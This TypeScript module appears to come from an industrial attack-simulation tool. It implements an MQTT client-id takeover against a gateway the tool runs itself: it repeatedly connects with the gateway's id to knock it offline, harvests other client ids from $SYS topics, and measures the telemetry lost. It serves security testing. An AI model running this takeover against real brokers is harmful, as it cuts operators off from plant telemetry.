/**
 * Rogue client-id takeover over MQTT: the range runs a gateway (a subscriber with a client id
 * of its own, reconnecting as gateways do) and a witness subscriber; the attacker connects
 * with the gateway's client id, and MQTT's session takeover kicks the gateway off, again each
 * time it comes back, for a few seconds. The gateway's time offline and the messages it missed
 * (those the witness received in the same window and it did not) are the impact. The attacker
 * also tries the twin's own client ids, when `$SYS` gives them away.
 */
import { randomBytes } from 'node:crypto';
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { trail } from './common.ts';
import { rangeClient, received, type RangeClient } from './mqtt-range.ts';

/** how long the attacker holds the gateway's client id [ms] */
const HOLD_MS = 3000;
/** baseline before the takeover [ms] */
const BASELINE_MS = 1500;
/** the gateway reconnects this often [ms] (a gateway's usual back-off is a second or a few) */
const GATEWAY_RECONNECT_MS = 1000;
/** the attacker takes the id back this often [ms] */
const ATTACKER_RECONNECT_MS = 300;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

export const mqttClientTakeover: Attack = {
  id: 'mqtt-client-takeover',
  title: 'MQTT client-id takeover: a gateway\'s session taken over by a rogue client with its client id',
  techniques: [T.denialOfView, T.lossOfView, T.lossOfAvailability],
  face: 'mqtt',
  preconditions: [
    'a connection to the broker (anonymous, or an account the attacker holds)',
    'the client id of a legitimate client (read off $SYS, a configuration file, or a capture); the range runs the gateway whose id it is',
  ],
  steps: [
    'the range connects its gateway (anonymous, else its gateway account) and a witness, both subscribing #',
    `CONNECT with the gateway's client id and keep taking it back for ${HOLD_MS / 1000} s`,
    'SUBSCRIBE $SYS/+/new/clients and try any client id of the twin seen there',
    'compare what the gateway received with what the witness received',
  ],
  expectedImpact: 'the gateway is disconnected each time the attacker connects: it misses the twin\'s telemetry while offline (loss of view for everything behind it)',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { mqttClose, mqttConnect } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const tag = randomBytes(3).toString('hex');
    const gatewayId = `line-gw-${tag}`;
    const gateway = await rangeClient(ctx, evidence, 'gateway', gatewayId, { reconnectPeriod: GATEWAY_RECONNECT_MS });
    const witness = await rangeClient(ctx, evidence, 'viewer', `range-witness-${tag}`);
    const release = async (c: RangeClient | null): Promise<void> => mqttClose(c?.client ?? null);
    ctx.atEnd(() => release(gateway));
    ctx.atEnd(() => release(witness));
    if (gateway === null) {
      await trail(ctx, evidence, false);
      return { outcome: 'blocked', evidence, impact: { gateway: null, note: 'the range could not run its gateway: nothing to take over' } };
    }
    // the gateway's outages: each close until its next connect
    let disconnects = 0;
    let downSince: number | null = null;
    let downMs = 0;
    gateway.client.on('close', () => {
      if (downSince !== null) return;
      disconnects++;
      downSince = Date.now();
    });
    gateway.client.on('connect', () => {
      if (downSince === null) return;
      downMs += Date.now() - downSince;
      downSince = null;
    });
    await Promise.all([gateway.client.subscribeAsync('#'), witness?.client.subscribeAsync('#')]).catch(() => undefined);
    await sleep(BASELINE_MS);

    const from = Date.now();
    const attacker = await mqttConnect(ctx, evidence, { clientId: gatewayId, reconnectPeriod: ATTACKER_RECONNECT_MS });
    let takeovers = 0;
    const twinIds = new Set<string>();
    let sysGranted = false;
    if (attacker !== null) {
      takeovers = 1;
      attacker.on('connect', () => takeovers++);
      attacker.on('message', (topic, payload) => {
        const id = payload.toString('utf8');
        if (topic.endsWith('/new/clients') && id.startsWith('twinline-') && twinIds.size < 10) twinIds.add(id);
      });
      const g = await attacker.subscribeAsync('$SYS/+/new/clients').catch(() => []);
      sysGranted = g.some((x) => x.qos !== 128);
      await sleep(HOLD_MS);
      await mqttClose(attacker);
    }
    const to = Date.now();
    // the gateway comes back by itself; give it the time to, then count what it missed
    const back = Date.now() + 4 * GATEWAY_RECONNECT_MS;
    while (!gateway.client.connected && Date.now() < back) await sleep(100);
    await sleep(500);
    const until = Date.now();
    if (downSince !== null) downMs += until - downSince;
    const gotGateway = received(gateway, from, until);
    const gotWitness = witness === null ? null : received(witness, from, until);
    const lost = gotWitness === null ? null : Math.max(0, gotWitness - gotGateway);
    if (attacker !== null) {
      evidence.push(`MQTT: the gateway's client id ${gatewayId} taken ${takeovers} time(s) in ${Math.round((to - from) / 100) / 10} s: the gateway was disconnected ${disconnects} time(s), offline ${downMs} ms`);
      evidence.push(`MQTT: in that window the gateway received ${gotGateway} live messages${gotWitness === null ? '' : `, the range's witness ${gotWitness}: ${lost} lost`}`);
    }

    // the twin's own client ids, where $SYS gives them away
    const reserved: Record<string, string> = {};
    if (attacker !== null && !sysGranted) evidence.push('MQTT: SUBSCRIBE $SYS/+/new/clients refused: the twin\'s client ids were not learnt');
    for (const id of [...twinIds].slice(0, 2)) {
      const c = await mqttConnect(ctx, evidence, { clientId: id });
      reserved[id] = c === null ? 'refused' : 'accepted';
      await mqttClose(c);
    }
    const took = attacker !== null && disconnects > 0;
    await trail(ctx, evidence, !took);
    return {
      outcome: took || Object.values(reserved).includes('accepted') ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        gatewayClientId: gatewayId, gatewayAs: gateway.who, takeovers: attacker === null ? 0 : takeovers, gatewayDisconnects: disconnects, gatewayOfflineMs: downMs,
        gatewayReceived: gotGateway, witnessReceived: gotWitness, messagesLost: lost, twinClientIdsTried: reserved,
      },
    };
  },
  async cleanup() {
    // the gateway and the witness are closed at the end of the run; nothing on the line changed
  },
};
